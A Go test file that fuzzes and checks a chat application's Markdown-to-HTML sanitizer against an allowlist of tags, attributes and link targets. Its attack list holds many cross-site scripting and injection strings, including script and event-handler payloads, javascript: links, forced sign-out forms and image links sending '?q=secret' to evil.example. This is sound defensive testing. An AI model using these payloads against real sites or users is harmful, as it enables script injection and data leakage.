package views

import (
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/taskpilot/taskpilot/chatkit"
)

// attacks try to get something into a page that acts.
var attacks = []string{
	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<div hx-get="/signout" hx-trigger="load">x</div>`,
	`[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, "[x](java\tscript:alert(1))", `[x](data:text/html,<script>1</script>)`,
	`[x](vbscript:x)`, `[x](//evil.example)`, `[x](/signout)`, `[x](https:evil)`, `<javascript:alert(1)>`, `<https://ok.example"onclick="x>`,
	`![x](https://evil.example/?q=secret)`, "![x][r]\n\n[r]: https://evil.example/pixel", `[![x](https://evil.example/a)](https://ok.example)`,
	`![x](javascript:alert(1))`, "```\"><script>alert(1)</script>\ncode\n```", "```js onload=alert(1)\n1\n```",
	`[x](https://ok.example "onmouseover=alert(1)")`, `[x](https://ok.example/"onmouseover="alert(1))`, `&lt;script&gt;alert(1)&lt;/script&gt;`,
	`<svg/onload=alert(1)>`, `<style>*{display:none}</style>`, `<form action=/signout method=post><button>`, `<a name=composer id=composer>x</a>`,
	"| <b onclick=x> |\n|---|\n| [x](javascript:1) |", `- [x] <iframe src=https://evil.example>`, "> <object data=x>", "# <base href=https://evil.example>",
	`<meta http-equiv=refresh content=0>`, `<link rel=stylesheet href=https://evil.example>`, `[a](<javascript:alert(1)>)`, `www.evil.example/<script>`,
	"<!-- --> <![CDATA[<script>]]> <?php ?>", `mailto:x@y.z?body="><script>`, "\x00<script>\x00", `{{<script>}} ${alert(1)}`,
	`[x](https://ok.example/?q=&#xE000;1&#xE001;)`, `<sup class="footnote">0</sup>`, `[x](https://ok.example/?<sup class="cite">1</sup>)`, `[x](https://ok.example/?[^1])`, `[^"><script>]`,
}

var allowedTags = map[string]string{
	"p": "class dir", "br": "", "hr": "", "h1": "dir", "h2": "dir", "h3": "dir", "h4": "dir", "h5": "dir", "h6": "dir", "em": "", "strong": "", "del": "",
	"blockquote": "dir", "ul": "dir", "ol": "start dir", "li": "id", "table": "dir", "thead": "", "tbody": "", "tr": "", "th": "align", "td": "align",
	"a": "href target rel class id role aria-label", "sup": "", "div": "class role aria-label", "span": "class", "pre": "tabindex", "code": "", "button": "type class", "input": "type checked disabled aria-label",
	"math": "display", "mrow": "", "mi": "mathvariant", "mn": "", "mo": "stretchy", "mtext": "", "mspace": "width", "mfrac": "linethickness", "msqrt": "", "mroot": "",
	"msub": "", "msup": "", "msubsup": "", "munder": "", "mover": "accent", "munderover": "", "mtable": "displaystyle", "mtr": "", "mtd": "class",
}

// ownPlace is where a message leads within the page.
var ownPlace = regexp.MustCompile(`^#(note-msg_1-0-\d+(-\d)?|source-msg_1-\d+)$`)

// check walks the HTML and complains about everything that is not on the list.
func check(t *testing.T, source, rendered string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(rendered))
	for z.Next() != html.ErrorToken {
		token := z.Token()
		if token.Type != html.StartTagToken && token.Type != html.SelfClosingTagToken {
			continue
		}
		attrs, ok := allowedTags[token.Data]
		if !ok {
			t.Errorf("%q: element %s in %s", source, token.Data, rendered)
		}
		for _, a := range token.Attr {
			if !strings.Contains(" "+attrs+" ", " "+a.Key+" ") {
				t.Errorf("%q: attribute %s on %s", source, a.Key, token.Data)
			}
			if a.Key == "href" && !strings.HasPrefix(a.Val, "https://") && !strings.HasPrefix(a.Val, "http://") && !strings.HasPrefix(a.Val, "mailto:") && !ownPlace.MatchString(a.Val) {
				t.Errorf("%q: link to %s", source, a.Val)
			}
			if a.Key == "id" && !ownPlace.MatchString("#"+a.Val) {
				t.Errorf("%q: an element is called %s", source, a.Val)
			}
		}
	}
}

func TestNothingThatActsGetsThrough(t *testing.T) {
	t.Parallel()
	for _, outer := range []string{"%s", "text %s text", "- %s", "> %s", "**%s**", "# %s", "| a |\n|---|\n| %s |", "[%s](https://ok.example)", "```html\n%s\n```", "$\\text{%s}%s$", "$$\n%s\n$$", "a[^1]\n\n[^1]: %s", "a[^%s] b\n\n[^%s]: c"} {
		for _, attack := range attacks {
			source := strings.ReplaceAll(outer, "%s", attack)
			check(t, source, Markdown(t.Context(), source))
			check(t, source, messageHTML(t.Context(), cited(source), 0))
		}
	}
}

// cited is a message with a source in the middle of its text.
func cited(text string) *chatkit.AssistantMessage {
	at := len(text) / 2
	note := chatkit.Annotation{Index: &at, Source: &chatkit.URLSource{SourceBase: chatkit.SourceBase{Title: "A page"}, URL: "https://example.org"}}
	return &chatkit.AssistantMessage{ItemBase: chatkit.ItemBase{ID: "msg_1"}, Content: []*chatkit.OutputText{{Text: text, Annotations: []chatkit.Annotation{note}}}}
}

func FuzzMarkdown(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack)
	}
	f.Fuzz(func(t *testing.T, source string) {
		check(t, source, Markdown(t.Context(), source))
		check(t, source, messageHTML(t.Context(), cited(source), 0))
	})
}

func TestMarkdownRenders(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ name, source, want string }{
		{"raw HTML is text", "a <b>bold</b>", "<p dir=\"auto\">a &lt;b&gt;bold&lt;/b&gt;</p>\n"},
		{"link", "[a](https://example.org)", `<p dir="auto"><a href="https://example.org" target="_blank" rel="noopener noreferrer nofollow">a</a></p>` + "\n"},
		{"bare address", "see https://example.org/x", `<p dir="auto">see <a href="https://example.org/x" target="_blank" rel="noopener noreferrer nofollow">https://example.org/x</a></p>` + "\n"},
		{"link to nowhere is its text", "[a](/signout)", "<p dir=\"auto\">a</p>\n"},
		{"picture is a link", "![a chart](https://example.org/c.png)", `<p dir="auto"><a href="https://example.org/c.png" target="_blank" rel="noopener noreferrer nofollow">a chart</a></p>` + "\n"},
		{"picture in a link", "[![pic](https://a.example/p)](https://b.example)", `<p dir="auto"><a href="https://b.example" target="_blank" rel="noopener noreferrer nofollow">pic</a></p>` + "\n"},
		{"task list", "- [x] done", "<ul dir=\"auto\">\n<li><input checked=\"\" disabled=\"\" type=\"checkbox\"> done</li>\n</ul>\n"},
		{"code", "```go\nreturn 1\n```", `<div class="code"><div class="code-head"><span class="code-lang">go</span><button type="button" class="code-copy">Copy</button></div><pre tabindex="0"><code><span class="tk">return</span> <span class="tn">1</span>` + "\n</code></pre></div>\n"},
		{"blank", " \n\n", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			if got, _ := renderers().whole([]byte(c.source), endless(), nil); got != c.want {
				t.Errorf("\n got %s\nwant %s", got, c.want)
			}
		})
	}
}

func TestLongCodeIsPlainButWhole(t *testing.T) {
	t.Parallel()
	source := "```go\n" + strings.Repeat("x := 1\n", maxCodeLines+1) + "```\n"
	got := Markdown(t.Context(), source)
	if strings.Contains(got, `<span class="t`) {
		t.Error("it was highlighted")
	}
	if n := strings.Count(got, "x := 1\n"); n != maxCodeLines+1 {
		t.Errorf("%d lines are left", n)
	}
}
